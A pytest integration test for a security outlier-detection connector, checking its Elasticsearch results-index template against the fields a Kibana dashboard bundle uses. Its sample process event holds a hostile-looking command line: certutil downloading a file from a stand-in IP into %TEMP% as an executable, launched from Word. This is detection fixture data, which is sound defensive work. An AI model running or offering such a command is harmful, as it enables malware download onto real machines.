"""The results index template on a REAL Elasticsearch node against the fields the Kibana bundle uses.

The unit sweep (tests/unit/test_saved_objects.py) checks the bundle against the template as data; here the
template is installed, a real results document is written through the connector's own writer, and the
node's own view of the index (field capabilities, aggregations) must have every field the results-index
objects name, typed as the template says, aggregatable where Lens aggregates it. Index and template
names carry a uuid and are deleted afterwards.
"""

from __future__ import annotations

import json
import uuid
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from elasticsearch import Elasticsearch
from es_data import seed_use_case, without_detection_time

from connector.config import UseCase
from connector.explain import Explanation
from connector.kibana.saved_objects import (
    BUNDLE_FILE,
    LENS_RECORDS_FIELD,
    RESULTS_DATA_VIEW_ID,
    data_view_ids,
    fields_used,
)
from connector.model.outlier import Observation, build_outlier
from connector.results import (
    AnnotateMode,
    install_results_template,
    results_document,
    results_document_id,
    results_index_template,
    results_template_name,
    write_outliers,
)

BUNDLE_PATH = Path(__file__).resolve().parents[2] / "kibana_saved_objects" / BUNDLE_FILE
# A source event as the osquery pack writes it (numbers and all), so dynamic mapping gets its chance.
EVENT = {
    "@timestamp": "2024-03-05T09:14:52.118Z",
    "tags": ["endpoint"],
    "meta": {"command": {"name": "get_all_processes_enriched"}},
    "host": {"name": "WS-004"},
    "OsqueryFilter": {
        "name": "cmd.exe",
        "parentname": "WINWORD.EXE",
        "cmdline": 'cmd.exe /c "certutil -urlcache -split -f http://198.51.100.23/inv.txt %TEMP%\\inv.exe"',
        "parentcmdline": '"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE" /n',
        "path": "C:\\Windows\\System32\\cmd.exe",
        "pid": 19120,
        "parent": 4808,
        "username": "s.jacobs",
        "usertype": "roaming",
        "sha256": "fa1a88ef25aaa10cf4611937309d5318e0431cb07c49128329fa5ed84b15c405",
    },
}
EXPLANATION = Explanation(
    aggregator_total=394,
    aggregator_distinct_terms=3,
    top_terms=(("ai.exe", 326), ("splwow64.exe", 67), ("cmd.exe", 1)),
    host_count=1,
    first_seen_in_range=None,
)


def results_field_uses() -> list[Any]:
    """(field, role) of every object on the results data view, read from the shipped bundle file."""
    uses = []
    for line in BUNDLE_PATH.read_text(encoding="utf-8").splitlines():
        saved_object = json.loads(line)
        if RESULTS_DATA_VIEW_ID in data_view_ids(saved_object):
            uses += [(use.field, use.role) for use in fields_used(saved_object)]
    return sorted(set(uses))


def template_type(field: str) -> str:
    """The type the template gives ``field`` (dotted, sub-fields included)."""
    node: dict[str, Any] = {"properties": results_index_template("x")["template"]["mappings"]["properties"]}
    parts = field.split(".")
    for position, part in enumerate(parts):
        if part in node.get("properties", {}):
            node = node["properties"][part]
        elif position == len(parts) - 1 and part in node.get("fields", {}):
            node = node["fields"][part]
        else:
            raise AssertionError(f"{field} is not in the results index template")
    return node["type"]


@pytest.fixture
def use_case(tmp_path: Path) -> UseCase:
    return seed_use_case(tmp_path)


@pytest.fixture
def results_index(es_client: Elasticsearch) -> Iterator[str]:
    """A fresh ``rcp-test-kibana-<uuid>`` results index name with the template installed; both deleted."""
    name = f"rcp-test-kibana-{uuid.uuid4().hex}"
    install_results_template(es_client, name, settings={"number_of_replicas": 0})
    try:
        yield name
    finally:
        es_client.indices.delete(index=name, ignore_unavailable=True)
        es_client.options(ignore_status=404).indices.delete_index_template(name=results_template_name(name))


@pytest.fixture
def written(es_client: Elasticsearch, use_case: UseCase, results_index: str) -> dict[str, Any]:
    """One realistic outlier written by the connector's writer; returns the stored hit."""
    hit = {"_index": "osquery-processes", "_id": "213056cdc575d4b32041fca2", "_source": EVENT}
    observation = Observation(
        aggregator="WINWORD.EXE",
        term="cmd.exe",
        term_count=1,
        decision_frontier=1.3133333333333335,
        confidence=0.23857868020304576,
    )
    outlier = build_outlier(use_case, hit, observation)
    report = write_outliers(
        es_client,
        [(outlier, EXPLANATION)],
        use_case=use_case,
        mode=AnnotateMode.RESULTS_INDEX,
        results_index=results_index,
        refresh="wait_for",
    )
    assert (report.written, report.failed, report.errors) == (1, 0, ())
    stored = es_client.get(index=results_index, id=results_document_id(use_case, outlier))
    source, _detected_at = without_detection_time(stored["_source"])
    assert source == results_document(use_case, outlier, EXPLANATION)
    return stored


def test_bundle_uses_results_fields() -> None:
    """The sweep below is not empty: it covers the columns, Lens columns and breakdown of the bundle."""
    fields = {field for field, _ in results_field_uses()}
    assert {
        "@timestamp",
        "host.name",
        "outliers.aggregator",
        "outliers.term",
        "outliers.confidence",
        "outliers.summary.keyword",
        "process.command_line",
        "process.executable",
        "user.name",
    } <= fields
    assert not any(field.startswith("OsqueryFilter.") for field in fields), "the bundle reads ECS names only"


def test_real_mapping_has_every_field_the_bundle_uses(
    es_client: Elasticsearch, results_index: str, written: dict[str, Any]
) -> None:
    """After a real write, field capabilities list every field the results-index objects use, with the
    template's type (no dynamic-mapping surprise), searchable, and aggregatable wherever Lens, a sort
    or a breakdown aggregates it."""
    capabilities = es_client.field_caps(index=results_index, fields="*")["fields"]
    for field, role in results_field_uses():
        assert field in capabilities, f"{field} ({role}) is not in the index mapping"
        (es_type,) = capabilities[field].keys()
        assert es_type == template_type(field), f"{field}: mapped as {es_type}"
        assert capabilities[field][es_type]["searchable"] is True
        if role.startswith("lens ") or role in {"sort", "breakdown"}:
            assert capabilities[field][es_type]["aggregatable"] is True, f"{field} ({role})"


def test_lens_aggregations_count_the_written_outlier(
    es_client: Elasticsearch, results_index: str, written: dict[str, Any]
) -> None:
    """Each Lens bucket column of the bundle, run as the aggregation Kibana sends for it, puts the written
    outlier in exactly one bucket with the document's value."""
    source = written["_source"]
    aggregations: dict[str, Any] = {}
    expected: dict[str, Any] = {}
    for line in BUNDLE_PATH.read_text(encoding="utf-8").splitlines():
        saved_object = json.loads(line)
        if saved_object["type"] != "lens":
            continue
        for layer in saved_object["attributes"]["state"]["datasourceStates"]["formBased"]["layers"].values():
            for column_id, column in layer["columns"].items():
                field = column["sourceField"]
                if field == LENS_RECORDS_FIELD:
                    continue
                name = f"{saved_object['id']}/{column_id}"
                operation = column["operationType"]
                if operation == "terms":
                    aggregations[name] = {"terms": {"field": field, "size": column["params"]["size"]}}
                    value = source
                    for part in field.removesuffix(".keyword").split("."):
                        value = value[part]
                    expected[name] = value
                elif operation == "date_histogram":
                    aggregations[name] = {"date_histogram": {"field": field, "calendar_interval": "1d"}}
                    expected[name] = "2024-03-05T00:00:00.000Z"
                else:
                    assert operation == "range"
                    aggregations[name] = {"histogram": {"field": field, "interval": 0.1}}
                    expected[name] = 0.2
    assert len(aggregations) == 6

    response = es_client.search(index=results_index, size=0, aggregations=aggregations)

    for name, value in expected.items():
        buckets = response["aggregations"][name]["buckets"]
        keys = [bucket.get("key_as_string", bucket["key"]) for bucket in buckets]
        assert keys == [value], name
        assert [bucket["doc_count"] for bucket in buckets] == [1], name


def test_results_search_sorts_and_filters_on_its_fields(
    es_client: Elasticsearch, results_index: str, written: dict[str, Any]
) -> None:
    """Discover's request for the results search (sort on @timestamp, the columns as fields) and a
    Kibana-style exact filter on a column find the document."""
    response = es_client.search(
        index=results_index,
        sort=[{"@timestamp": "desc"}],
        fields=["host.name", "outliers.aggregator", "OsqueryFilter.username", "outliers.confidence"],
        query={"term": {"OsqueryFilter.username": "s.jacobs"}},
    )
    (hit,) = response["hits"]["hits"]
    assert hit["fields"] == {
        "host.name": ["WS-004"],
        "outliers.aggregator": ["WINWORD.EXE"],
        "OsqueryFilter.username": ["s.jacobs"],
        "outliers.confidence": [0.23857868020304576],
    }
